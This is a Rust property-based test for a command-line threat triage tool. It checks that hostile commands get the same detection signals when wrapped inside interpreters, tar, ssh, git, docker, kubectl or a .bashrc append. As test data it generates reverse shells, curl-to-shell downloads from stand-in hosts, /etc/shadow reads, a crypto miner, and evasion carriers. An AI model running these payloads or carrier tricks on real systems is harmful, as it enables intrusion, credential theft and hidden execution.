//! Property: a command line judged alone and the same command line carried inside another
//! command (interpreter code, an option, a container CLI, a file that runs it) give the same
//! signals, up to provenance: every signal the command raises alone is raised when it is
//! carried, at a risk no lower, and the summary names where it came from.
//!
//! The family of commands is generated from the payloads attackers type (reverse shells,
//! downloads piped into a shell, credential reads, miners) with generated hosts, ports and
//! paths; the carriers are the shapes `src/analysis/shell/carry.rs` and `code.rs` read.

use falco_triage::analysis::{analyze, Lineage, Verdict};
use falco_triage::facts::ExecFacts;
use proptest::prelude::*;
use proptest::sample::select;

/// A command line with no quote characters, so every carrier can quote it.
fn command() -> impl Strategy<Value = String> {
    let host = select(vec![
        "10.0.0.1",
        "203.0.113.9",
        "c2.example.net",
        "198.51.100.23",
    ]);
    let port = 1u16..65535;
    let path = select(vec!["a.sh", "x", "i.sh", "payload"]);
    (0usize..8, host, port, path).prop_map(|(shape, h, p, f)| match shape {
        0 => format!("nc -e /bin/sh {h} {p}"),
        1 => format!("bash -i >& /dev/tcp/{h}/{p} 0>&1"),
        2 => format!("curl -s http://{h}/{f} | sh"),
        3 => format!("wget -qO- http://{h}:{p}/{f} | bash"),
        4 => "cat /etc/shadow".to_string(),
        5 => format!("xmrig -o stratum+tcp://{h}:{p} -u wallet"),
        6 => format!("ncat --sh-exec /bin/bash {h} {p}"),
        _ => format!("socat exec:/bin/sh tcp:{h}:{p}"),
    })
}

/// `c` carried by carrier number `k`, as an argv.
fn carried(k: usize, c: &str) -> (Vec<String>, &'static str) {
    let v = |w: &[&str]| w.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    match k {
        0 => (
            v(&["python3", "-c", &format!("import os; os.system('{c}')")]),
            "python3 -c code",
        ),
        1 => (
            v(&[
                "node",
                "-e",
                &format!("require('child_process').exec('{c}')"),
            ]),
            "node -e code",
        ),
        2 => (
            v(&["perl", "-e", &format!("system('{c}')")]),
            "perl -e code",
        ),
        3 => (
            v(&["php", "-r", &format!("shell_exec('{c}');")]),
            "php -r code",
        ),
        4 => (
            v(&["ruby", "-e", &format!("system('{c}')")]),
            "ruby -e code",
        ),
        5 => (
            v(&["lua", "-e", &format!("os.execute('{c}')")]),
            "lua -e code",
        ),
        6 => (
            v(&["awk", &format!("BEGIN {{system(\"{c}\")}}")]),
            "awk program code",
        ),
        7 => (v(&["find", ".", "-exec", "sh", "-c", c, ";"]), "find -exec"),
        8 => (
            v(&["ssh", "-o", &format!("ProxyCommand={c}"), "host"]),
            "ssh ProxyCommand",
        ),
        9 => (
            v(&[
                "tar",
                "-cf",
                "/dev/null",
                "/dev/null",
                "--checkpoint=1",
                &format!("--checkpoint-action=exec={c}"),
            ]),
            "tar --checkpoint-action",
        ),
        10 => (
            v(&["git", "-c", &format!("core.sshCommand={c}"), "fetch"]),
            "git core.sshCommand",
        ),
        11 => (
            v(&["docker", "exec", "web", "sh", "-c", c]),
            "docker exec in container web",
        ),
        12 => (
            v(&["kubectl", "exec", "api", "--", "sh", "-c", c]),
            "kubectl exec in pod api",
        ),
        _ => (
            v(&["sh", "-c", &format!("echo '{c}' >> /root/.bashrc")]),
            "written into /root/.bashrc",
        ),
    }
}

const CARRIERS: usize = 14;

fn judge(argv: Vec<String>) -> (Verdict, String) {
    let facts = ExecFacts {
        argv,
        uid: Some(0),
        res: Some(0),
        cgroups_present: true,
        ..Default::default()
    };
    let lineage = Lineage::from_comms(["sh", "node"]);
    let v = analyze(&facts, &lineage);
    let summary = falco_triage::report::render(&facts, &lineage, &v).summary;
    (v, summary)
}

fn ids(v: &Verdict) -> Vec<&'static str> {
    v.hits.iter().map(|h| h.signal.id).collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn a_carried_command_is_judged_as_the_command(c in command(), k in 0..CARRIERS) {
        let (alone, _) = judge(vec!["sh".into(), "-c".into(), c.clone()]);
        let (argv, via) = carried(k, &c);
        let (inside, summary) = judge(argv);
        prop_assert!(!alone.hits.is_empty(), "{c:?} alone raises nothing");
        for id in ids(&alone) {
            prop_assert!(
                ids(&inside).contains(&id),
                "{c:?} alone raises {id}; carried by {via}: {:?}",
                ids(&inside)
            );
        }
        prop_assert!(inside.risk >= alone.risk, "{c:?}: {} alone, {} carried by {via}", alone.risk, inside.risk);
        prop_assert!(summary.contains(via), "carried by {via}: {summary}");
    }
}
